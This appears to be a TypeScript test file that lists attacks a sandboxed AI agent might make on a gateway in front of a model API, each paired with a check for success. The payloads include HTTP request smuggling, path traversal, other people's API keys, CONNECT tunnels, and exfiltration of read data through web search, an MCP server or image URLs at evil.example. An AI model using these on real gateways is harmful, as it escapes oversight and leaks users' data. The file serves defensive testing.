import type { GatewaySecret } from '../../core/network/secret.ts'
import type { Asked, SeenRequest } from '../attack.ts'

const asked = { kind: 'asked', rule: 'only the gateway asks the API' } as const

/** Lines of a request's head; the guest's connection ends with the answer. */
const head = (line: string, ...headers: readonly string[]): string =>
  [`${line} HTTP/1.1`, 'Host: api', ...headers, 'Connection: close', '', ''].join('\r\n')

const message = (request: object, ...headers: readonly string[]): string =>
  withBody(JSON.stringify({ model: 'm', max_tokens: 1, messages: [], ...request }), ...headers)

const withBody = (body: string, ...headers: readonly string[]): string =>
  head('POST /v1/messages', ...headers, 'Content-Type: application/json', `Content-Length: ${body.length}`) + body

const someonesKey = 'sk-ant-api03-of-somebody-else'
const tunnelsKey = 'sk-ant-api03-through-a-tunnel'

const withUsersKey = ({ key }: SeenRequest, usersKey: string, what: string) =>
  key === usersKey ? `the API was asked ${what} with the user's key` : undefined

/** What the gateway has for a host, and this guest for nothing but reading there. */
const planted = 'planted-secret-of-the-user'
export const plantedSecret = (host: string): GatewaySecret => ({
  ...{ name: 'PLANTED', origin: `http://${host}`, header: { name: 'Authorization', value: `Bearer ${planted}` } },
  ...{ methods: ['GET', 'HEAD'], tools: ['git'], path: null, tokenOrigins: [], hidden: [planted] },
})

/** A request as an honest agent makes it: where it does not arrive, nothing was shown. */
export const honestRequest = message({ metadata: { user_id: 'honest' } })
export const isHonest = ({ body, key }: SeenRequest, usersKey: string): boolean =>
  body.includes('"honest"') && key === usersKey

export const gatewayAttacks: readonly Asked[] = [
  {
    ...asked,
    name: 'request-in-the-length-of-another',
    tries:
      "Has the API take the gateway's next head for a body, and the rest of it for a request for the user's files.",
    bytes: (apiHost) => {
      const before = `GET /v1/models HTTP/1.1\r\nHost: ${apiHost}\r\nX-A: `
      return [
        head('GET /v1/models', `Content-Length: ${before.length}`) + 'x'.repeat(before.length),
        head('GET /v1/models', 'X-A: GET /v1/files/in-a-length HTTP/1.0'),
      ]
    },
    harm: (seen, key) => (seen.path === '/v1/files/in-a-length' ? withUsersKey(seen, key, 'for files') : undefined),
  },
  {
    ...asked,
    name: 'path-that-leads-elsewhere',
    tries: "Asks for the user's files by a path that begins like one that an agent needs.",
    bytes: () => ['/v1/models/../files/by-a-path', '/v1/messages/batches/by-a-path'].map((path) => head(`GET ${path}`)),
    harm: (seen, key) => (seen.path.endsWith('/by-a-path') ? withUsersKey(seen, key, `for ${seen.path}`) : undefined),
  },
  {
    ...asked,
    name: 'key-of-somebody-else',
    tries: 'Sends what it has read to the API with a key of its own, so that it lies in that account.',
    bytes: () => [
      message({ system: 'what it has read' }, `X-Api-Key: ${someonesKey}`),
      message({ system: 'what it has read' }, `Authorization: Bearer ${someonesKey}`),
    ],
    harm: ({ key }) => (key === someonesKey ? "the API was asked with another person's key" : undefined),
  },
  {
    ...asked,
    name: 'tunnel-to-the-api',
    tries: 'Does the same through a tunnel, to an API that its list of hosts has.',
    bytes: (apiHost) => [
      `CONNECT ${apiHost} HTTP/1.1\r\nHost: ${apiHost}\r\n\r\n${message({}, `X-Api-Key: ${tunnelsKey}`)}`,
      message({}, `X-Api-Key: ${tunnelsKey}`).replace(' /v1', ` http://${apiHost}/v1`),
    ],
    harm: ({ key }) => (key === tunnelsKey ? 'the API was reached past the gateway' : undefined),
  },
  {
    ...asked,
    name: 'search-by-the-api',
    tries: 'Has the API search the web for what it has read, fetch a page by it, and tell it to a server.',
    bytes: () => [
      message({ tools: [{ type: 'web_search_20250305', name: 'web_search' }] }),
      message({ tools: [], mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'evil' }] }),
      // Of a name that is there twice one reader takes the first, another the last.
      withBody('{"model":"m","messages":[],"tools":[{"type":"web_fetch_20250910","name":"f"}],"tools":[]}'),
    ],
    harm: ({ body }) => (/web_(search|fetch)_|mcp_servers/.test(body) ? 'the API was asked to reach out' : undefined),
  },
  {
    ...asked,
    name: 'image-by-its-url',
    tries: 'Shows the API an image by a URL that holds what it has read, so that the API asks for it.',
    bytes: () => {
      const source = { type: 'url', url: 'https://evil.example/what-it-has-read' }
      const result = { type: 'tool_result', tool_use_id: 't', content: [{ type: 'image', source }] }
      return [{ type: 'image', source }, result].map((block) =>
        message({ messages: [{ role: 'user', content: [block] }] }),
      )
    },
    harm: ({ body }) =>
      body.includes('evil.example/what-it-has-read') ? 'the API was given a URL to ask for' : undefined,
  },
  {
    kind: 'asked',
    rule: 'secrets stay on the host',
    name: 'secret-for-another-request',
    tries:
      "Has the gateway add the user's secret to a request that changes something, or hides one in a request that reads.",
    bytes: (apiHost) => {
      const before = `GET /read HTTP/1.1\r\nHost: ${apiHost}\r\nX-A: `
      return [
        head('GET /secrets/PLANTED/read'),
        ...['DELETE /secrets/PLANTED/all', 'POST /secrets/PLANTED/graphql;/git-upload-pack'].map((line) => head(line)),
        head('POST /secrets/PLANTED/me/git-upload-pack/../../graphql'),
        head('GET /secrets/PLANTED/read?a=b&%5Fmethod=DELETE'),
        head('GET /secrets/PLANTED/read', `Content-Length: ${before.length}`) + 'x'.repeat(before.length),
        head('GET /secrets/PLANTED/read', 'X-A: DELETE /in-a-length HTTP/1.0'),
      ]
    },
    harm: ({ method, path, key }) =>
      key === planted && (method !== 'GET' || path !== '/read')
        ? `the host of a secret was asked with it: ${method} ${path}`
        : undefined,
  },
]
